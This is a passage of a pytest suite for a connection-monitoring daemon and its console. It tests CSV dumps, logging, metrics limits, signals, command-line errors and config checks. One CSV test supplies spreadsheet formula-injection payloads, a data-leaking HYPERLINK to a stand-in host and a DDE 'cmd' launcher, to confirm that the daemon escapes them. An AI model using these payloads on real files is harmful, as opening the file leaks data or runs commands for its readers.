        assert header == ("time,token,hostname,progname,nproc,conn,ckout,"
                          "maxnproc,maxconn,maxckout,ckout_total")

        # Only what changed is written: one.py is quiet while two.py moves
        # through two states (so at least two more intervals pass).
        two = apps(url, "two.py")
        two("hold 1")
        wait_until(lambda: rows_where("two.py", conn="1"), what="two.py 1")
        two("hold 1")
        wait_until(lambda: rows_where("two.py", conn="2"), what="two.py 2")
        rows = csv_rows(out)
        last_one = max(i for i, row in enumerate(rows)
                       if row["progname"] == "one.py")
        assert rows[last_one]["conn"] == "2"
        assert last_one < min(i for i, row in enumerate(rows)
                              if row["progname"] == "two.py")
        for row in rows:
            assert row["token"] == "run-1"
            assert row["hostname"] == socket.gethostname()
            time.strptime(row["time"], "%Y-%m-%dT%H:%M:%SZ")

        before = out.read_text()
        daemon.stop()
        daemon.start()
        one("release 1")
        wait_until(lambda: rows_where("one.py", conn="2", ckout="1"),
                   what="a CSV row of one.py after the restart")
        after = out.read_text()
        assert after.startswith(before)       # appended, never truncated
        assert after.count(header) == 1       # and one header
    finally:
        daemon.stop()


def test_csv_cells_never_start_a_formula(tmp_path):
    """A host or program named like a spreadsheet formula is written with a
    quote before it: opening the dump runs nothing."""
    out = tmp_path / "connmon.csv"
    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
                    "csv_interval: 0.2\n")
    try:
        names = {'=HYPERLINK("http://x/?"&A1,"go")': "+cmd|' /C calc'!A0",
                 "@SUM(1+1)": "-2+3", "plain": "ok.py"}
        apps = [SyntheticApp(daemon, hostname, progname)
                for hostname, progname in names.items()]
        rows = wait_until(lambda: out.exists() and len(csv_rows(out)) == 3
                          and csv_rows(out), what="three CSV rows")
        assert {row["hostname"]: row["progname"] for row in rows} == {
            '\'=HYPERLINK("http://x/?"&A1,"go")': "'+cmd|' /C calc'!A0",
            "'@SUM(1+1)": "'-2+3", "plain": "ok.py"}
        for app in apps:
            app.conn.close()
    finally:
        daemon.stop()


@pytest.mark.parametrize("case", ["missing-directory", "disk-full",
                                  "other-header"])
def test_csv_trouble_is_one_log_line_and_the_daemon_carries_on(
        tmp_path, apps, case):
    out = {"missing-directory": tmp_path / "later" / "connmon.csv",
           "disk-full": "/dev/full",
           "other-header": tmp_path / "theirs.csv"}[case]
    if case == "disk-full" and not os.path.exists(out):
        pytest.skip("no /dev/full on this system")
    if case == "other-header":
        out.write_text("a,b\n1,2\n")
    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
                    "csv_interval: 0.1\n")
    try:
        app = apps(f"sqlite:///{tmp_path}/t.sqlite?plugin=connmon"
                   f"&connmon_addr={daemon.address}", "trouble.py")
        app("hold 1")

        def complaints() -> List[str]:
            return [line for line in daemon.log.read_text().splitlines()
                    if f"cannot write CSV to {out}" in line]
        # Three tries: one ERROR line, then quiet (DEBUG) retries.
        lines = wait_until(lambda: (lambda c: c if len(c) >= 3 else None)(
            complaints()), what="three CSV write attempts")
        assert [" ERROR " in line for line in lines[:3]] == [
            True, False, False]
        assert "connmond carries on" in lines[0]
        if case == "other-header":
            assert "the file starts with 'a,b'" in lines[0]
            assert out.read_text() == "a,b\n1,2\n"
        app("hold 1")
        daemon.wait_row("trouble.py", conn=2, ckout=2)   # still serving
        if case == "missing-directory":
            out.parent.mkdir()
            rows = wait_until(lambda: out.exists() and csv_rows(out),
                              what="CSV rows once the directory exists")
            assert rows[-1]["conn"] == "2"
            wait_until(lambda: f"writing CSV to {out} again"
                       in daemon.log.read_text(), what="recovery log line")
    finally:
        daemon.stop()


def test_logging_sections_in_the_config_are_honoured(tmp_path, apps):
    logfile = tmp_path / "connmond-own.log"
    daemon = Daemon(tmp_path, extra_config=textwrap.dedent(f"""\
        [loggers]
        keys = root, connmond
        [handlers]
        keys = file
        [formatters]
        keys = plain
        [logger_root]
        level = WARNING
        handlers = file
        [logger_connmond]
        level = INFO
        handlers = file
        propagate = 0
        qualname = connmond
        [handler_file]
        class = FileHandler
        args = ({str(logfile)!r}, "a")
        formatter = plain
        [formatter_plain]
        format = CUSTOM %(levelname)s %(name)s: %(message)s
        """))
    try:
        app = apps(f"sqlite:///{tmp_path}/l.sqlite?plugin=connmon"
                   f"&connmon_addr={daemon.address}", "logged.py")
        app("hold 1")
        daemon.wait_row("logged.py", conn=1)
        wait_until(lambda: "app logged.py[" in logfile.read_text(),
                   what="the app's connect line in the configured log")
        lines = logfile.read_text().splitlines()
        assert lines[0].startswith("CUSTOM INFO connmond: connmond ")
        assert any(line.startswith("CUSTOM INFO connmond: ") and
                   "app logged.py[" in line and "connected" in line
                   for line in lines)
        assert "connmond" not in daemon.log.read_text()   # not on stderr
    finally:
        daemon.stop()


def test_trust_metrics_capped_and_deadlined(tmp_path, apps):
    """/metrics serves at most connmon_server.MAX_METRICS_CLIENTS at once,
    and each for at most METRICS_DEADLINE seconds in all, however slowly
    it trickles: a crowd of trickling clients neither holds threads for
    ever nor keeps the next scrape out for longer than that."""
    port = free_port()
    daemon = Daemon(tmp_path, extra_config=f"metrics_port: {port}\n")
    tricklers = []
    try:
        began = time.monotonic()
        for _ in range(connmon_server.MAX_METRICS_CLIENTS):
            sock = socket.create_connection(("127.0.0.1", port), 5)
            sock.sendall(b"G")
            tricklers.append(sock)
        with socket.create_connection(("127.0.0.1", port), 5) as extra:
            extra.settimeout(5)
            assert extra.recv(1) == b""   # past the cap: closed at once
        assert "requests served already" in daemon.log.read_text()

        def trickle_until_closed() -> bool:
            for sock in tricklers:
                try:
                    sock.sendall(b"E")   # a byte now and then
                except OSError:
                    pass
            time.sleep(0.5)
            return len(readable(tricklers, 0)) == len(tricklers)
        wait_until(trickle_until_closed,
                   connmon_server.METRICS_DEADLINE + 10,
                   "every trickler cut off at its deadline")
        assert (time.monotonic() - began
                >= connmon_server.METRICS_DEADLINE - 1)
        status, _, text = http_get(port, "/metrics")
        assert status == 200 and "connmon_processes" in text
    finally:
        for sock in tricklers:
            sock.close()
        daemon.stop()


# ===========================================================================
# The command line
#
# connmond's and connmon's command lines: --version, refused combinations and
# arguments, ending quietly (closed pipe, Ctrl-C, SIGTERM), SIGHUP, telling
# what is not connmond, and the demo leaving nothing running.
# ===========================================================================


def test_console_exits_nonzero_when_no_node_answers(tmp_path):
    port = free_port()
    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "--json", "-H",
         f"127.0.0.1:{port}"], cwd=HERE, env=CHILD_ENV, capture_output=True,
        text=True,
        timeout=30)
    assert result.returncode == 1
    assert (f"connmon: cannot get a snapshot from 127.0.0.1:{port}: no "
            f"connmond answered (127.0.0.1:{port}:") in result.stderr


def test_sigterm_stops_the_daemon_cleanly(tmp_path):
    daemon = Daemon(tmp_path)
    daemon.kill(signal.SIGTERM)
    assert daemon.proc.returncode == 0
    assert "connmond stopping" in daemon.log.read_text()


@pytest.mark.parametrize("args, message", [
    (["-H", "127.0.0.1:1", "-i", "0"], "argument -i/--interval: '0' is not "
     "a number of seconds from 0.05 to 3600"),
    (["-H", "127.0.0.1:1", "-i", "x"], "'x' is not a number of seconds"),
    (["--demo", "--once"], "--demo is interactive"),
    (["--demo", "-H", "127.0.0.1:1"], "argument -H/--host: not allowed with "
     "argument --demo"),
    (["-H", "127.0.0.1:1"], "the live screen needs a terminal; use --once "
     "for scripts"),
])
def test_console_command_line_errors(args, message):
    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", *args], cwd=HERE,
        env=CHILD_ENV, capture_output=True, text=True, timeout=30,
        stdin=subprocess.DEVNULL)
    assert result.returncode == 2
    assert message in result.stderr


def test_version_on_both_commands():
    for module, name in (("connmon_console", "connmon"),
                         ("connmon_server", "connmond")):
        result = subprocess.run([sys.executable, "-m", module, "--version"],
                                cwd=HERE, env=CHILD_ENV, capture_output=True,
                                text=True, timeout=30)
        assert (result.returncode, result.stdout) == (
            0, f"{name} {connmon.__version__}\n")


def test_procs_without_once_is_refused():
    """--procs lists processes in --once's table or JSON; the live screen
    has its drill-down instead."""
    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", "--procs", "-H",
         "127.0.0.1:1"], cwd=HERE, env=CHILD_ENV, capture_output=True,
        text=True, timeout=30)
    assert result.returncode == 2
    assert "error: --procs goes with --once" in result.stderr


def test_once_json_into_a_closed_pipe_ends_quietly(daemon):
    openstack = openstack_fleet(daemon)
    reader, writer = os.pipe()
    os.close(reader)   # like head -1, gone before connmon writes
    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "--json", "-H",
         daemon.address], cwd=HERE, env=CHILD_ENV, stdout=writer,
        stderr=subprocess.PIPE, text=True, timeout=30)
    os.close(writer)
    assert (result.returncode, result.stderr) == (0, "")
    # ... and through a real pipe into head -1.
    result = subprocess.run(
        f"{sys.executable} -m connmon_console --once --json -H "
        f"{daemon.address} | head -1", shell=True, cwd=HERE, env=CHILD_ENV,
        capture_output=True, text=True, timeout=30)
    assert (result.stdout, result.stderr) == ("{\n", "")
    assert openstack


def test_ctrl_c_during_once_ends_quietly():
    server = FakeDaemon()
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "connmon_console", "--once", "-H",
             f"127.0.0.1:{server.port}"], cwd=HERE, env=CHILD_ENV,
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        wait_until(lambda: server.accepted, what="connmon waiting")
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=30)
        assert (proc.returncode, out, err) == (130, "", "")
    finally:
        server.close()


@pytest.mark.parametrize("what", ["mariadb", "postgresql", "http"])
def test_once_says_when_it_is_not_connmond(what):
    import http.server

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass
    httpd = None
    if what == "http":
        httpd = http.server.HTTPServer(("127.0.0.1", 0), Quiet)
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        address = f"127.0.0.1:{httpd.server_address[1]}"
    else:
        url = MYSQL_URL if what == "mariadb" else POSTGRESQL_URL
        require_database(url)
        address = "127.0.0.1:3306" if what == "mariadb" else "127.0.0.1:5432"
    try:
        result = subprocess.run(
            [sys.executable, "-m", "connmon_console", "--once", "-H",
             address], cwd=HERE, env=CHILD_ENV, capture_output=True,
            text=True, timeout=30)
    finally:
        if httpd is not None:
            httpd.shutdown()
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"connmon: {address}: not connmond: "), line


def test_live_console_backs_off_from_what_is_not_connmond(terminal):
    server = FakeDaemon(greeting=b"J\x00\x00\x00\n5.5.5-10.11.6-MariaDB\x00")
    try:
        term = terminal("-H", f"127.0.0.1:{server.port}", "-i", "0.2")
        term.wait_text("not connmond")
        time.sleep(6)
        # Every 0.2 s would be 30 tries; backing off, a handful.
        assert 1 <= server.accepted <= 6, server.accepted
        assert "next try in" in term.display[-1]
    finally:
        server.close()


def test_sighup_does_not_stop_connmond(daemon):
    app = SyntheticApp(daemon, "ctl1", "nova-conductor")
    daemon.proc.send_signal(signal.SIGHUP)
    wait_until(lambda: "SIGHUP ignored" in daemon.log.read_text(),
               what="the SIGHUP log line")
    assert daemon.proc.poll() is None
    assert daemon.row("nova-conductor")["connected"]
    assert app.conn


def test_demo_killed_with_sigkill_leaves_nothing_running(terminal):
    require_module("sqlalchemy")
    term = terminal("--demo")
    term.wait_for(lambda t: "nova-api" in t.rows(), "the demo's rows")
    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
    children = [int(name) for name in os.listdir("/proc") if name.isdigit()
                and _parent_pid(int(name)) == term.proc.pid]
    assert len(children) >= 6
    term.proc.kill()
    term.proc.wait(10)
    wait_until(lambda: not [pid for pid in children
                            if _parent_pid(pid) is not None],
               what="every demo process gone")
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", port), 1).close()


def test_check_config_reports_every_mistake_in_one_run(tmp_path):
    path = write(tmp_path, f"""\
        [connmon]
        service: a

        [connmon_servce_b]
        name: b
        nodes:
            n1 hostname=127.0.0.1:1

        [connmon_service_a]
        name: a
        hold_warn_seconds: soon
        metrics_prot: 9187
        csv_dump: {tmp_path}/missing/a.csv
        nodes:
            n1 hostname=127.0.0.1:1
            n2 hostnme=h
        """)
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.splitlines() == [
        f"connmond: error: {path}:1: [connmon] unknown section: connmon "
        "reads [connmon_service_NAME] sections (and logging's); did you "
        "mean [connmon_service_default]?",
        f"connmond: error: {path}:4: [connmon_servce_b] unknown section: "
        "connmon reads [connmon_service_NAME] sections (and logging's); did "
        "you mean [connmon_service_b]?",
        f"connmond: error: {path}:16: [connmon_service_a] unexpected "
        "'hostnme=h' in node line 'n2 hostnme=h'; expected "
        "hostname=HOST[:PORT] [bind=ADDR[:PORT]]",
        f"connmond: error: {path}:11: [connmon_service_a] hold_warn_seconds: "
        "expected a number of seconds from 0.1 to 86400, got 'soon'",
        f"connmond: error: {path}:12: [connmon_service_a] unknown option "
        "'metrics_prot' (did you mean metrics_port?)",
        f"connmond: error: {path}:13: [connmon_service_a] csv_dump: "
        f"directory {tmp_path}/missing does not exist"]


def test_check_config_misspelt_section_is_named_not_unknown(tmp_path):
    path = write(tmp_path, "[connmon_servce_default]\nname: default\n"
                 "nodes:\n    n1 hostname=127.0.0.1:1\n")
    result = run_connmond("--check-config", "-c", path)
    assert result.returncode == 2
    assert result.stderr == (
        f"connmond: error: {path}:1: [connmon_servce_default] unknown "
        "section: connmon reads [connmon_service_NAME] sections (and "
        "logging's); did you mean [connmon_service_default]?\n")


def test_check_config_prints_the_warnings_start_up_logs(tmp_path):
    path = write(tmp_path, """\
        [connmon_service_a]
        name: a
        metrics_port: 9187
        metrics_bind: 0.0.0.0
        nodes:
            n1 hostname=127.0.0.1:1 bind=0.0.0.0
        """)
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert result.returncode == 0
    assert result.stdout.startswith(f"connmond: config OK: {path}")
    warnings = result.stderr.splitlines()
    assert len(warnings) == 2, warnings
    assert warnings[0].startswith(
        f"connmond: warning: {path}: [connmon_service_a] listening on "
        "0.0.0.0:1 without auth_secret_file: anyone who can reach")
    assert warnings[1].startswith(
        f"connmond: warning: {path}: [connmon_service_a] serving /metrics "
        "on 0.0.0.0:9187 without metrics_token_file")


def test_once_fits_80_columns_and_says_its_sort(alarm_daemon):
    def once(*args: str, **env: str) -> List[str]:
        return subprocess.run(
            [sys.executable, "-m", "connmon_console", "--once", "-H",
             alarm_daemon.address, *args], cwd=HERE,
            env={**CHILD_ENV, **env}, capture_output=True, text=True,
            timeout=30, check=True).stdout.splitlines()

    lines = once(COLUMNS="80")
    assert max(len(line) for line in lines) <= 80, lines
    (context,) = [line for line in lines if "sorted by" in line]
    assert context == "19 rows, sorted by CONN descending"
    heads = lines[lines.index(context) + 1].split()
    assert heads[:2] == ["HOSTNAME", "PROGNAME"] and "CONN" in heads
    rows = [line.split("  (")[0].split()   # (a state mark after a row)
            for line in lines[lines.index(context) + 2:]
            if line[:1] not in (" ", "")]
    rows = [fields for fields in rows if len(fields) == len(heads)]
    conns = [int(fields[heads.index("CONN")]) for fields in rows]
    assert len(conns) == 19 and conns == sorted(conns, reverse=True)
    assert any(line.startswith("ALARMS 4: heat-engine") for line in lines)
    wide = once("--wide", COLUMNS="80")
    assert max(len(line) for line in wide) > 80
    assert "MAXCKOUT" in "\n".join(wide)


def test_console_pointed_at_mariadb_says_so_whole(terminal):
    require_database(MYSQL_URL)
    term = terminal("-H", "127.0.0.1:3306", cols=80, lines=24)
    term.wait_text("this looks like a MySQL/MariaDB server")
    text = " ".join(line.strip() for line in term.display[1:-1])
    assert "is the port connmond's (default 5800)?" in text
    assert "(next try in 60s)" in text   # once a minute, not 1, 2, 4 s
